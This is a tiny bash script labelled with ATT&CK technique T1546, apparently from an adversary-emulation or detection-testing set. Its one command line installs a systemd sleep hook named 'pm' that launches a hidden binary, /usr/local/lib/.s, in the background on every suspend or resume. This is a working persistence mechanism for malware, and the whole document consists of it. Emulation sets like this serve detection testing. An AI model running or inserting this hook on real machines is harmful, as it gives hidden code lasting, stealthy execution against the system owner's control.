#!/bin/bash
# T1546: Something runs when the machine goes to sleep.
mkdir -p /usr/lib/systemd/system-sleep; printf '#!/bin/sh\n/usr/local/lib/.s &\n' >/usr/lib/systemd/system-sleep/pm; chmod +x /usr/lib/systemd/system-sleep/pm
